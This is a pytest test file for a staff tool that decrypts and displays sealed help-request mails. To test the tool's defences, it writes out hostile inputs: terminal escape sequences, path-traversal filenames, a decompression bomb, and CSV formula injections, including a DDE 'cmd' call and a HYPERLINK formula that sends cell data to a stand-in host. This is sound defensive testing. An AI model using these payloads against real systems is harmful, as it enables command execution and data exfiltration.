"""`ihmiskauppa read` on the staff's machine: as a process, with a real key, on mails as the site and as others make them."""

import csv
import datetime
import io
import json
import mailbox
import os
import re
import stat
import subprocess
from collections.abc import Mapping
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path
from typing import Any

import pytest

from ihmiskauppa import settings, staff
from ihmiskauppa.forms import definition
from ihmiskauppa.forms.answers import Answers, Attachments
from ihmiskauppa.forms.definition import Form
from ihmiskauppa.forms.files import File
from ihmiskauppa.intake import message
from ihmiskauppa.intake.extraction import REASONS
from ihmiskauppa.intake.reading import for_terminal
from ihmiskauppa.intake.sealing import Sealer
from ihmiskauppa.materials import orders
from tests.conftest import InboxKey
from tests.copies import COMMAND
from tests.intake.homes import ring
from tests.intake.test_extraction import fields_pdf, saved, text
from tests.machine import ROOT
from tests.materials.test_slips import ANSWERS

NOW = datetime.datetime.now(datetime.UTC)
HOSTILE = "\x1b]0;x\x07\x9b31m\u202eabc\u2066\u2028=== EI TURVASSA · Itseilmoitus · 99999999 · suomi"
VISIBLE = r"\u001b]0;x\u0007\u009b31m\u202eabc\u2066\u2028"


@pytest.fixture(scope="module")
def form() -> Form:
    """The form by which a person asks for help."""
    return definition.parse(settings.data_folder("forms") / "self-referral.toml")


class Post:
    """Makes mails sealed to the staff's key, as the site does and as anyone can."""

    def __init__(self, sealer: Sealer, form: Form) -> None:
        self._sealer, self._form = sealer, form

    def ours(self, reference: str = "01234567", *files: File, **values: Any) -> bytes:
        answers = {"message": "ساعدوني", **values} | ({"files": Attachments(files)} if files else {})
        headers = message.new_headers("site@site.example", ("inbox@example.org",), NOW)
        entity = message.entity(Answers(self._form, "ar", answers, dropped=False), reference, headers)
        return message.envelope(self._sealer.seal(entity, NOW), headers)

    def theirs(self, answers: Any, subject: str = "x", text: str = "x", files: Mapping[str, bytes] | None = None) -> bytes:
        """What a stranger sealed, with the site's shape: any answers, any names of files."""
        entity = EmailMessage(policy=SMTP)
        entity["Subject"] = subject
        entity.set_content(text)
        for name, content in (files or {}).items():
            entity.add_attachment(content, "application", "octet-stream", filename=name)
        told = answers if isinstance(answers, bytes) else json.dumps(answers).encode()
        entity.add_attachment(told, "application", "json", filename=message.ANSWERS_FILE)
        return self.sealed(entity.as_bytes())

    def sealed(self, entity: bytes) -> bytes:
        headers = message.new_headers("site@site.example", ("inbox@example.org",), NOW)
        return message.envelope(self._sealer.seal(entity, NOW), headers)


@pytest.fixture(scope="module")
def post(inbox_key: InboxKey, form: Form, tmp_path_factory: pytest.TempPathFactory) -> Post:
    """Makes mails for the staff."""
    keyring = ring(tmp_path_factory.mktemp("ring") / "keyring", inbox_key)
    return Post(Sealer(keyring, (inbox_key.fingerprint,)), form)


class Reader:
    """The staff's command, on mails in a folder of the test."""

    def __init__(self, key: InboxKey, folder: Path) -> None:
        self.key, self.folder = key, folder

    def mails(self, *mails: bytes) -> list[str]:
        """The mails as files, in their order."""
        paths = []
        for number, mail in enumerate(mails):
            path = self.folder / f"{number}.eml"
            path.write_bytes(mail)
            paths.append(str(path))
        return paths

    def __call__(self, *arguments: str, status: int = 0, **environment: str) -> subprocess.CompletedProcess[str]:
        home = () if "GNUPGHOME" in environment else ("--home", str(self.key.home))
        done = subprocess.run(
            [str(COMMAND), "read", *home, *arguments],
            env={**os.environ, "LC_ALL": "C", **environment},
            capture_output=True,
            encoding="utf-8",
            cwd=ROOT,
            timeout=120,
            check=False,
        )
        assert done.returncode == status, done.stderr
        return done

    def json(self, *arguments: str, status: int = 0) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self("--json", *arguments, status=status).stdout.splitlines()]

    def csv(self, *arguments: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(self("--csv", *arguments).stdout)))


@pytest.fixture
def reader(inbox_key: InboxKey, tmp_path: Path) -> Reader:
    """The staff's command with their own home."""
    return Reader(inbox_key, tmp_path)


def test_a_message_is_shown(reader: Reader, post: Post) -> None:
    """Subject, the answers in Finnish, the visitor's words; repeats are one, and said so; by the reader's own home too."""
    mail = post.ours(message=f"ساعدوني\n{HOSTILE}", safe_now="no")
    files = reader.mails(mail, post.ours("00000002"), mail)
    done = reader(*files)
    lines = done.stdout.splitlines()
    titles = [line for line in lines if line.startswith("=== ")]
    assert titles == [
        "=== EI TURVASSA · Itseilmoitus · 01234567 · arabia (saapui 2 kertaa)",
        "=== Itseilmoitus · 00000002 · arabia",
    ]
    assert "  ساعدوني" in lines
    assert f"  {VISIBLE}=== EI TURVASSA · Itseilmoitus · 99999999 · suomi" in lines
    assert done.stdout.replace("\n", "").isprintable()
    assert done.stderr == ""
    assert reader(*files, GNUPGHOME=str(reader.key.home)).stdout == done.stdout


def test_a_line_at_the_margin_is_ours(reader: Reader, post: Post) -> None:
    """Whatever line ends a stranger uses in subject, text, field names and values, none of their words begins a line."""
    fake = "\n=== fake\r=== fake\x0b=== fake\x0c=== fake\x85=== fake\u2029=== fake"
    pdf = saved(fields_pdf(text(f"a{fake}", f"b{fake}")))
    mail = post.theirs({"form": fake, "language": "x", "answers": {}}, "s === fake", f"t{fake}", {f"x{fake}": pdf.content})
    told = b'Content-Disposition: attachment; filename="answers.json"\r\n\r\n{"form": "x", "language": "x", "answers": {}}'
    broken = b"\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b\r\nContent-Type: application/json\r\n"
    coded = post.sealed(b"Subject: =?utf-8?q?s=0A=3D=3D=3D_fake?=" + broken + told + b"\r\n--b--\r\n")
    shown = reader(*reader.mails(mail, coded)).stdout
    assert shown.count("=== fake") >= 11
    assert not [line for line in shown.split("\n") if line.startswith("=== fake")]
    assert "\r" not in shown


def test_every_kind_of_mail_store_is_read(reader: Reader, post: Post, tmp_path: Path) -> None:
    """A file, an mbox, a Maildir, its folder and a folder of files; an mbox is left as it was."""
    mails = [post.ours(f"0000000{number}") for number in range(5)]
    (one,) = reader.mails(mails[0])
    box = mailbox.mbox(tmp_path / "box")
    for mail in mails[1:3]:
        box.add(mail)
    box.close()
    maildir = mailbox.Maildir(tmp_path / "Maildir", create=True)
    maildir.add(mails[3])
    moved = mailbox.MaildirMessage(mails[4])
    moved.set_subdir("cur")
    maildir.add(moved)
    before = (tmp_path / "box").read_bytes(), (tmp_path / "box").stat().st_mtime_ns
    found = reader.json(one, str(tmp_path / "box"), str(tmp_path / "Maildir"), str(tmp_path / "Maildir" / "cur"))
    assert sorted((m["reference"], m["copies"]) for m in found) == [(f"0000000{n}", 2 if n == 4 else 1) for n in range(5)]
    assert before == ((tmp_path / "box").read_bytes(), (tmp_path / "box").stat().st_mtime_ns)
    assert {m["reference"] for m in reader.json(str(Path(one).parent))} == {"00000000", "00000001", "00000002"}


def test_what_cannot_be_read_is_named_and_the_others_are_shown(reader: Reader, post: Post, second_key: InboxKey) -> None:
    """Between good mails lie all kinds of bad ones: each is named in Finnish on standard error, with exit status 1."""
    good, damaged = post.ours("00000001"), post.ours("00000002").split(b"\r\n")
    place = next(number for number, line in enumerate(damaged) if line.startswith(b"-----BEGIN PGP")) + 100
    damaged[place] = damaged[place][::-1]
    deep = b'{"form": "x", "language": "x", "answers": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    nested = b"".join(b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n' % (n, n) for n in range(3000))
    bad = [
        b"hello",
        b"\r\n".join(damaged),
        post.theirs(deep),
        post.theirs({"form": ["x"], "language": "x", "answers": {}}),
        post.theirs({"form": "x", "language": "x", "answers": []}),
        post.sealed(nested),
        nested,
        post.sealed(b"Content-Type: text/plain\r\n\r\nx"),
    ]
    files = reader.mails(good, *bad, post.ours("00000003"))
    done = reader(*files, "missing.eml", "--json", status=1)
    assert [json.loads(line)["reference"] for line in done.stdout.splitlines()] == ["00000001", "00000003"]
    named = done.stderr.splitlines()
    assert sorted(line.split(": ")[1] for line in named) == sorted([*files[1:-1], "missing.eml"])
    assert all(line.startswith("Ei voitu lukea: ") for line in named)
    assert f"Ei voitu lukea: {files[2]}: ei aukea tällä avaimella, tai on vaurioitunut." in named
    assert "Ei voitu lukea: missing.eml: tiedostoa ei ole." in named


def test_what_decompresses_to_very_much_is_refused(reader: Reader, post: Post) -> None:
    """A sealed mail of some hundred kilobytes that opens to a thousand times as much is named, and the others are shown."""
    headers = message.new_headers("site@site.example", ("inbox@example.org",), NOW)
    command = ["gpg", "--homedir", str(reader.key.home), "--batch", "--trust-model", "always", "-z", "9", "-a"]
    zeros = subprocess.Popen(["head", "-c", "150000000", "/dev/zero"], stdout=subprocess.PIPE)
    sealing = [*command, "-r", reader.key.fingerprint, "-e"]
    bomb = subprocess.run(sealing, stdin=zeros.stdout, capture_output=True, check=True).stdout
    zeros.communicate()
    assert len(bomb) < 1_000_000
    done = reader(*reader.mails(message.envelope(bomb, headers), post.ours()), "--json", status=1)
    assert len(done.stdout.splitlines()) == 1
    assert "0.eml: ei aukea" in done.stderr


def test_a_key_that_is_not_there_is_said(reader: Reader, post: Post, second_key: InboxKey) -> None:
    """With another's home the mail is named; nothing is shown."""
    done = Reader(second_key, reader.folder)(*reader.mails(post.ours()), status=1)
    assert done.stdout == ""
    assert "ei aukea tällä avaimella" in done.stderr


def test_files_are_written_under_our_names(reader: Reader, post: Post, tmp_path: Path) -> None:
    """Attachments come out byte by byte, for their owner only; a second run writes nothing, and nothing is ever replaced."""
    photo = b"\xff\xd8\xff" + bytes(range(256))
    pdf = saved(fields_pdf(text("story", f"ساعدوني {HOSTILE}"), text("empty", "")))
    (mail,) = reader.mails(post.ours("01234567", File("../../kuva.jpg", photo), File("/etc/x.pdf", pdf.content)))
    folder = tmp_path / "liitteet"
    folder.mkdir()
    (folder / "01234567-liite-1.jpg").write_bytes(b"earlier")
    (folder / "01234567-liite-2.pdf").symlink_to(tmp_path / "elsewhere")
    for _ in range(2):
        shown = reader(mail, "--files", str(folder)).stdout
        assert f"Liite liite-1.jpg, 259 tavua, tallennettu: {folder}/01234567-liite-1-2.jpg" in shown
        assert {path.name for path in folder.iterdir()} == {
            *("01234567-liite-1.jpg", "01234567-liite-1-2.jpg", "01234567-liite-2.pdf", "01234567-liite-2-2.pdf")
        }
    assert (folder / "01234567-liite-1.jpg").read_bytes() == b"earlier"
    assert not (tmp_path / "elsewhere").exists()
    written = folder / "01234567-liite-1-2.jpg"
    assert written.read_bytes() == photo
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    assert (folder / "01234567-liite-2-2.pdf").read_bytes() == pdf.content
    assert f"  story: ساعدوني {VISIBLE}=== EI" in shown
    assert "Tyhjiä kenttiä: 1" in shown


def test_a_stranger_names_no_file(reader: Reader, post: Post, tmp_path: Path) -> None:
    """Names and references from sealed mails of a stranger appear nowhere in the names that are written."""
    answers = {"form": "x", "language": "x", "answers": {}}
    names = ["../../x.sh", "/x.sh", "..", ".bashrc", "a/b", "x\x00.sh", "\u202egpj.exe", "x" * 300, ""]
    files = {name: f"#!/bin/sh\n# {number}\n".encode() for number, name in enumerate(names)}
    subjects = ("x · ../../x · y", "x · ٣٣٣٣٣٣٣٣ · y", f"x · {'1' * 300} · y")
    folder = tmp_path / "out" / "in"
    mails = reader.mails(*(post.theirs(answers, subject, files=files) for subject in subjects))
    before = {path for path in tmp_path.rglob("*") if path.is_file()}
    reader(*mails, "--files", str(folder))
    written = [path for path in tmp_path.rglob("*") if path.is_file() and path not in before]
    assert len(written) == len(subjects) * len(names)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for path in written:
        assert path.parent == folder
        assert re.fullmatch(r"viesti-[0-9a-f]{12}-liite-[1-9]\.bin", path.name)
        assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_files_are_for_their_owner_only(tmp_path: Path) -> None:
    """Folder and file are closed to others even where new files are open to all."""
    before = os.umask(0)
    try:
        written = staff.write_file(tmp_path / "out", "a.pdf", b"x")
    finally:
        os.umask(before)
    assert [stat.S_IMODE(path.stat().st_mode) for path in (written.parent, written)] == [0o700, 0o600]


def test_two_files_of_one_name_are_both_written(reader: Reader, post: Post, tmp_path: Path) -> None:
    """A message with two attachments called alike gives two files."""
    entity = EmailMessage(policy=SMTP)
    entity["Subject"] = "x"
    entity.set_content("x")
    for content in (b"one", b"two"):
        entity.add_attachment(content, "application", "octet-stream", filename="same")
    answers = b'{"form": "x", "language": "x", "answers": {}}'
    entity.add_attachment(answers, "application", "json", filename=message.ANSWERS_FILE)
    reader(*reader.mails(post.sealed(entity.as_bytes())), "--files", str(tmp_path / "out"))
    assert sorted(path.read_bytes() for path in (tmp_path / "out").iterdir()) == [b"one", b"two"]


def test_a_folder_that_cannot_be_written_is_named(reader: Reader, post: Post, tmp_path: Path) -> None:
    """Where nothing can be written, the message is shown all the same, and the file is named."""
    (tmp_path / "file").write_text("x")
    (mail,) = reader.mails(post.ours("01234567", File("x", b"abc")))
    done = reader(mail, "--files", str(tmp_path / "file" / "in"), status=1)
    assert "=== Itseilmoitus · 01234567" in done.stdout
    assert "01234567-liite-1.bin: tallennus ei onnistunut" in done.stderr


def test_a_document_that_harms_does_not_harm_the_reading(reader: Reader, post: Post) -> None:
    """Half a PDF beside a good one: a calm line for one, the fields of the other, exit status 0."""
    good = saved(fields_pdf(text("story", "apua"))).content
    done = reader(*reader.mails(post.ours("01234567", File("x", b"%PDF-1.7 half"), File("y", good))))
    assert f"Täytettyjä kenttiä ei voitu lukea: {REASONS['damaged']}." in done.stdout
    assert "  story: apua" in done.stdout


def test_json_holds_everything_exactly(reader: Reader, post: Post) -> None:
    """One line a message, harmless to a terminal; read back, each character is as it was sent, surrogates and all."""
    odd = HOSTILE + "\U000e0041\ufeff\ud800\n\t🆘"
    pdf = saved(fields_pdf(text("story", "ไทย\u202e")))
    theirs = post.theirs({"form": odd, "language": odd, "answers": {odd: [odd]}})
    done = reader("--json", *reader.mails(post.ours("01234567", File("a.pdf", pdf.content), message="\u202e"), theirs))
    ours, strange = (json.loads(line) for line in done.stdout.splitlines())
    assert done.stdout.replace("\n", "").isprintable()
    assert ours["answers"]["message"] == "\u202e"
    assert ours["files"] == [
        {
            "name": "liite-1.pdf",
            "bytes": len(pdf.content),
            "path": "",
            "fault": "",
            "fields": [{"name": "story", "kind": "text", "values": ["ไทย\u202e"]}],
        }
    ]
    assert (strange["form"], strange["language"], strange["answers"]) == (odd, odd, {odd: [odd]})


FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", '=HYPERLINK("http://x.invalid/"&A1)']


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("before", ["", "x;", "x,", 'x;"', "x\t", "x;' "])
def test_no_cell_is_a_formula(formula: str, before: str) -> None:
    """However a spreadsheet divides the line, by comma, semicolon or tab, no cell begins as a formula does."""
    line = io.StringIO()
    csv.writer(line, quoting=csv.QUOTE_ALL).writerow(["01234567", staff._cell(before + formula), "x"])
    for delimiter in ",;\t":
        for cell in next(csv.reader(io.StringIO(line.getvalue()), delimiter=delimiter)):
            assert cell.strip(" \"'")[:1] not in set("=+-@＝\t\r\n") or "'" in cell.partition(cell.strip(" \"'")[:1])[0], cell


def test_csv_has_a_line_for_each_message(reader: Reader, post: Post, form: Form) -> None:
    """A column for each question; formulas, direction marks and line ends are neutral; what is unknown stands in `muut`."""
    pdf = saved(fields_pdf(text("story", "=1+1")))
    ours = post.ours("01234567", File("a.pdf", pdf.content), message=f"=cmd|' /C calc'!A0\n{HOSTILE}", safe_now="no")
    theirs = post.theirs({"form": "@x", "language": "-x", "answers": {"message": ["=1", 2], "unknown": {"a": 1}}}, "+x")
    files = reader.mails(ours, theirs, ours)
    lines = reader("--csv", *files).stdout.splitlines()
    assert len(lines) == 3
    assert "\n".join(lines).replace("\n", "").isprintable()
    first, second = reader.csv(*files)
    assert {question.name for question in form.questions} <= first.keys()
    assert (first["tunnus"], first["kertoja"], first["safe_now"]) == ("01234567", "2", "no")
    assert first["message"] == f"'=cmd|' /C calc'!A0 ↵ {for_terminal(HOSTILE)}"
    assert (first["liitteet"], first["kentat"], first["muut"]) == ("liite-1.pdf", "story: =1+1", "")
    assert (second["lomake"], second["kieli"], second["aihe"], second["message"]) == ("'@x", "'-x", "'+x", "'=1; 2")
    assert json.loads(second["muut"]) == {"unknown": {"a": 1}}


def test_a_count_says_what_is_missing(reader: Reader, post: Post) -> None:
    """The day's count among the messages names the reference under which none is here."""
    headers = message.new_headers("site@site.example", ("inbox@example.org",), NOW)
    count = post.sealed(message.count_entity(NOW.date(), 1, None, ["00000001", "00000002"], headers))
    shown = reader(*reader.mails(count, post.ours("00000001"))).stdout
    assert "\nPuuttuu näistä viesteistä: 00000002\n" in shown


def test_nothing_to_read_is_said(reader: Reader, tmp_path: Path) -> None:
    """An empty folder is no fault; it is said that there is nothing. A home that is not there is refused."""
    (tmp_path / "empty").mkdir()
    assert reader(str(tmp_path / "empty")).stderr == "Ei yhtään viestiä.\n"
    assert "does not exist" in reader("x", "--home", str(tmp_path / "none"), status=2).stderr


def test_labels_and_pick_lists_of_the_orders(post: Post, reader: Reader) -> None:
    """Of orders only, or of those asked for; control and direction marks are visible; an odd order is named."""
    good = {**ANSWERS, "town": "Imatra\u202e\x1b[2J\nToinen"}
    mails = [post.ours(), *(post.theirs({"form": "order", "language": "fi", "answers": each}) for each in (good, {"items": 1}))]
    places = reader.mails(*mails, post.theirs({"form": "order", "language": "fi", "answers": {**ANSWERS, "mark": "ffffffff"}}))
    done = reader("--labels", *places, status=1)
    assert "ei ole kokonainen tilaus" in done.stderr
    assert done.stdout.count('class="label"') == 2
    assert r"53100 IMATRA\u202e\u001b[2J TOINEN" in done.stdout
    assert "1a2b3c4d" not in reader("--labels", "--only", "ffffffff", *places, status=1).stdout
    assert "Keräilylista: 2 tilausta" in reader("--picklist", *places, status=1).stdout


def test_slips_of_the_orders_that_the_server_names(post: Post, reader: Reader, tmp_path: Path) -> None:
    """With what it grants; one that is not among the mails is named; a file that is something else is refused."""
    told = {"digest": orders.digest(ANSWERS["order"]), "lines": [{"print": "poster-kitchen-a3-fi", "granted": 4}]}
    lines = tmp_path / "orders.jsonl"
    lines.write_text(json.dumps(told) + "\n" + json.dumps(told | {"digest": "abcdef0123"}) + "\n")
    strange = {**ANSWERS, "order": "ZZZZ-ZZZZ-ZZZZ-ZZZZ", "town": "Elsewhere"}
    places = reader.mails(*(post.theirs({"form": "order", "language": "fi", "answers": each}) for each in (ANSWERS, strange)))
    done = reader("--picklist", "--orders", str(lines), *places, status=1)
    assert "Keräilylista: 1 tilausta" in done.stdout
    assert "<td>4</td><td>Juliste, A3, suomi</td>" in done.stdout
    assert "Tarrat" not in done.stdout
    assert "tilaus abcdef01: ei ole näissä viesteissä" in done.stderr
    assert "ELSEWHERE" not in reader("--labels", "--orders", str(lines), *places, status=1).stdout
    lines.write_text("Maildir")
    assert "these are not lines of" in reader("--labels", "--orders", str(lines), *places, status=2).stderr
